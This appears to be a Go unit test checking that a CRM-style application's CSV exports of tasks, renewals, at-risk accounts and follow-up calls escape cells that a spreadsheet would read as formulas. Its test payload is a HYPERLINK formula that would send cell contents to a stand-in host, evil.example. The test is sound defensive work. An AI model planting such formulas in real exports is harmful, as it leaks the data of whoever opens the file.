package main

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"postlift/clv/retention"
	"postlift/responses"
)

// What the post or a caller says is written by strangers: no cell of a list begins like a formula.
func TestListsHoldNoFormula(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example?"&A1)`
	task := responses.Task{ID: "tsk_1", Kind: responses.Unmatched, AccountID: "+" + evil, Account: evil, Contact: "@" + evil, Address: "-" + evil, Note: "\t" + evil, By: "\r" + evil,
		Detail: responses.TaskDetail{Words: evil, Told: &responses.Told{Company: evil, Street: evil, Postcode: evil, City: evil, Country: evil, Successor: evil}}}
	call := responses.FollowUp{Account: evil, Contact: evil, Phone: "+49 30 555", Email: "@x", Campaign: evil}
	due := retention.Calendar{Lines: []retention.Renewal{{Contract: evil, AccountID: evil, Account: evil, Segment: evil, Owner: evil, Group: evil}}}
	risk := retention.AtRisk{Lines: []retention.Risk{{UID: evil, Name: evil, Segment: evil, Owner: evil, Reasons: make([]retention.Reason, 1), Letters: retention.Letters{LastCampaign: evil, Planned: evil}}}}
	for name, write := range map[string]func(*bytes.Buffer) error{
		"tasks":    func(b *bytes.Buffer) error { return writeTasks(b, []responses.Task{task}) },
		"renewals": func(b *bytes.Buffer) error { return renewalsCSV(b, due) },
		"at risk":  func(b *bytes.Buffer) error { return atRiskCSV(b, risk, "en") },
		"calls":    func(b *bytes.Buffer) error { return writeFollowUps(b, []responses.FollowUp{call}) },
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s: %v, %d rows", name, err, len(rows))
		}
		for i, cell := range rows[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s, %s: %q is a formula to a spreadsheet", name, rows[0][i], cell)
			}
		}
	}
}
